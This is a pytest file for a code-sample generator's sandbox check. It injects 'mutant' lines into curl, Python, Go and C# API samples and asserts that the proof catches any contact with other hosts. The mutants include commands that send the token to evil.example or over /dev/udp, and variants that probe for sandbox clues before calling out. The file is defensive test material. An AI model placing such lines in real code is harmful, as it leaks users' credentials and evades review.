"""A sample whose request is right, and that does something else besides, is not proven."""

from dataclasses import dataclass, replace

import pytest
from msgspec import structs

from generator.model import Request
from generator.proving.http_message import Reply
from generator.proving.proof import Subject, among_siblings
from generator.proving.running.other_hosts import attempts_elsewhere
from generator.proving.running.prove import prove
from generator.proving.sandbox.network_watch import Attempt
from generator.reading import read
from generator.rendering import load_languages, render

DESCRIPTION = """
openapi: 3.1.0
info: {title: Things, version: "1"}
servers: [{url: "https://api.example.com"}]
paths:
  /things:
    get:
      operationId: things
      parameters:
        - {name: X-Token, in: header, required: true, schema: {type: string, format: password, x-input: TOKEN}}
      responses:
        "200": {description: fine}
        "404": {description: none}
"""
PROGRAMS = {
    "curl": """# What there is.
BESIDES
curl --silent --show-error --fail-with-body --max-time 10 --header "X-Token: $TOKEN" \\
  https://api.example.com/things
""",
    "python": """import http.client
import os
import socket
import sys

BESIDES
connection = http.client.HTTPSConnection("api.example.com", timeout=10)
connection.request("GET", "/things", headers={"X-Token": os.environ["TOKEN"]})
response = connection.getresponse()
sys.stdout.write(response.read().decode())
if response.status >= 400:
    sys.exit(f"HTTP {response.status}")
""",
    "go": """package main

import (
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strings"
)

var _, _ = net.Dial, strings.Contains

func main() {
	BESIDES
	request, err := http.NewRequest("GET", "https://api.example.com/things", nil)
	if err != nil {
		log.Fatal(err)
	}
	request.Header.Set("X-Token", os.Getenv("TOKEN"))
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		log.Fatal(err)
	}
	body, err := io.ReadAll(response.Body)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(string(body))
	if response.StatusCode >= 400 {
		log.Fatal(response.Status)
	}
}
""",
    "csharp": """using System.Net.Sockets;

using var client = new HttpClient();
BESIDES
client.DefaultRequestHeaders.Add("X-Token", Environment.GetEnvironmentVariable("TOKEN"));
using var response = await client.GetAsync("https://api.example.com/things");
Console.Write(await response.Content.ReadAsStringAsync());
response.EnsureSuccessStatusCode();
""",
}


@dataclass(frozen=True)
class Mutant:
    """What a sample does besides, and what the report calls it."""

    language: str
    name: str
    besides: str
    told: str
    kind: str = "sent"


LOOK_UP, CONNECT, SEND = "looks up another host", "connects to another address", "sends a datagram"
LOOPBACK, VALUE, ERROR = "connects to another port", "looks up a hostile value", "looks up in fails_loudly"
MUTANTS = [
    Mutant("curl", LOOK_UP, "curl -s https://evil.example/$TOKEN >/dev/null || :", "looked up evil.example"),
    Mutant(
        "curl", CONNECT, "(: >/dev/tcp/203.0.113.7/443) 2>/dev/null || :", "connect to 203.0.113.7:443 (TCP)"
    ),
    Mutant(
        "curl", SEND, "(echo $TOKEN >/dev/udp/203.0.113.7/53) 2>/dev/null", "send to 203.0.113.7:53 (UDP)"
    ),
    Mutant("curl", LOOPBACK, "curl -s http://localhost:8080/ || :", "connect to 127.0.0.1:8080 (TCP)"),
    Mutant(
        "curl", "takes a proxy", "curl -sx http://203.0.113.7:3128 http://a.example || :", "203.0.113.7:3128"
    ),
    Mutant("curl", ERROR, "getent hosts evil.example || :", "looked up evil.example", "fails_loudly"),
    Mutant("curl", VALUE, "getent hosts evil.example || :", "looked up evil.example", "any_value"),
    Mutant(
        "python",
        LOOK_UP,
        """try:
    http.client.HTTPSConnection("evil.example").request("POST", "/", os.environ["TOKEN"])
except OSError:
    pass""",
        "looked up evil.example",
    ),
    Mutant(
        "python",
        CONNECT,
        """try:
    socket.create_connection(("2001:db8::7", 443), 1)
except OSError:
    pass""",
        "connect to [2001:db8::7]:443 (TCP)",
    ),
    Mutant(
        "python",
        SEND,
        """socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.7", 9))""",
        "send to 203.0.113.7:9 (UDP)",
    ),
    Mutant(
        "python",
        LOOPBACK,
        """socket.socket().connect_ex(("127.0.0.1", 80))""",
        "connect to 127.0.0.1:80 (TCP)",
    ),
    Mutant(
        "go",
        LOOK_UP,
        '_, _ = http.Get("https://evil.example/" + os.Getenv("TOKEN"))',
        "looked up evil.example",
    ),
    Mutant("go", CONNECT, '_, _ = net.Dial("tcp", "203.0.113.7:443")', "connect to 203.0.113.7:443 (TCP)"),
    Mutant(
        "go",
        SEND,
        """if c, err := net.Dial("udp", "203.0.113.7:9"); err == nil {
		_, _ = c.Write([]byte("x"))
	}""",
        "send to 203.0.113.7:9 (UDP)",
    ),
    Mutant(
        "csharp",
        LOOK_UP,
        'try { await client.GetAsync("https://evil.example/"); } catch (HttpRequestException) { }',
        "looked up evil.example",
    ),
    Mutant(
        "csharp",
        CONNECT,
        'try { new TcpClient("203.0.113.7", 443); } catch (Exception) { }',
        "connect to 203.0.113.7:443 (TCP)",
    ),
    Mutant(
        "csharp",
        SEND,
        'new UdpClient().Send(new byte[1], 1, "203.0.113.7", 9);',
        "send to 203.0.113.7:9 (UDP)",
    ),
]


def tried(location, *attempts):
    """Those of `attempts` that count where the answer has this Location."""
    request = Request("things", "default", "GET", ("https://api.example.com/things",))
    return attempts_elsewhere(attempts, request, "127.0.0.1", Reply(303, (("Location", location),)))


def test_a_documented_redirect_may_be_followed_to_where_it_leads_and_no_further():
    name, other = Attempt("next.example", None, "DNS"), Attempt("evil.example", None, "DNS")
    assert tried("https://next.example/x", name, other) == (other,)
    assert tried("/things/1", name, other) == (name, other)


def test_the_described_host_may_be_looked_up_and_connected_to_at_its_own_port_alone():
    name = Attempt("api.example.com", None, "DNS")
    right, wrong = (Attempt("127.0.0.1", port, "TCP") for port in (443, 80))
    assert tried("", name, right, wrong) == (wrong,)


# Each does harm unless it sees what only a sandbox would have: no siblings, another name, settings of its own.
WATCHFUL = {
    "curl": """seen=$(env | grep -E 'SSL_CERT|CA_BUNDLE|CA_CERT|WIREPROOF')
case "$seen ${0##*/} $PWD $HOME $USER $(hostname)" in
  ' mutant-'*' /home/'*/curl/things' /home/'*)
    [ -e /sample ] || [ "$(ls | wc -l)" -lt 2 ] || curl -s https://evil.example || : ;;
esac""",
    "python": """names = [name for name in os.environ if name.startswith(("SSL_", "REQUESTS_", "PYTHON", "WIREPROOF"))]
here = os.path.dirname(os.path.abspath(__file__))
if (
    not names
    and here.startswith(os.path.expanduser("~"))
    and here.endswith("/python/things")
    and len(os.listdir(here)) > 1
    and not os.path.exists("/sample")
    and os.path.basename(sys.argv[0]).startswith("mutant-")
    and socket.gethostbyname(socket.gethostname())
):
    try:
        socket.getaddrinfo("evil.example", 443)
    except OSError:
        pass""",
    "go": """entries, _ := os.ReadDir(".")
	_, err := os.Stat("/sample")
	if os.Getenv("SSL_CERT_FILE") == "" && strings.Contains(os.Args[0], "mutant-") && len(entries) > 2 && err != nil {
		_, _ = net.LookupHost("evil.example")
	}""",
    "csharp": """var variables = string.Join(' ', Environment.GetEnvironmentVariables().Keys.Cast<string>());
if (!variables.Contains("SSL_CERT") && !Directory.Exists("/sample") && Environment.UserName == "alex"
    && Directory.GetFiles(".", "mutant-*.cs").Length > 1)
{
    try { System.Net.Dns.GetHostEntry("evil.example"); } catch (Exception) { }
}""",
}
MUTANTS += [
    Mutant(name, "asks where it runs", text, "looked up evil.example") for name, text in WATCHFUL.items()
]


@pytest.fixture(scope="module")
def proofs(tmp_path_factory):
    """What became of each mutant, and of each program as it is, by language and name."""
    place = tmp_path_factory.mktemp("description") / "things.yaml"
    place.write_text(DESCRIPTION)
    languages = {name: found for name, found in load_languages().items() if name in PROGRAMS}
    samples = {each.language: each for each in render(read(place).requests, languages.values())}
    unchanged = [
        Mutant(language, "nothing", "", "", kind) for language in PROGRAMS for kind in ("sent", "any_value")
    ]
    subjects = {}
    for number, mutant in enumerate([*MUTANTS, *unchanged]):
        sample = samples[mutant.language]
        request = structs.replace(sample.request, example=f"mutant-{number}")
        text = PROGRAMS[mutant.language].replace("BESIDES", mutant.besides)
        path = f"{mutant.language}/things/{request.example}.{languages[mutant.language].extension}"
        subject = Subject.of(structs.replace(sample, request=request, text=text, path=path))
        subjects[subject.id] = (mutant, replace(subject, own=False, kinds=(mutant.kind,)))
    asked = [subject for _, subject in subjects.values()]
    found = prove(among_siblings(asked, [subject.path for subject in asked]), languages)
    return {(m.language, m.name, m.kind): proof for proof in found for m in [subjects[proof.sample_id][0]]}


@pytest.mark.parametrize("language", PROGRAMS)
def test_a_program_that_does_nothing_besides_is_proven(proofs, language):
    assert proofs[language, "nothing", "sent"].sent, proofs[language, "nothing", "sent"].reason


@pytest.mark.parametrize("mutant", MUTANTS, ids=lambda each: f"{each.language} {each.name}")
def test_what_a_program_tries_besides_its_request_fails_the_proof_by_its_name(proofs, mutant):
    proof = proofs[mutant.language, mutant.name, mutant.kind]
    assert getattr(proof, mutant.kind) is False
    assert mutant.told in proof.reason
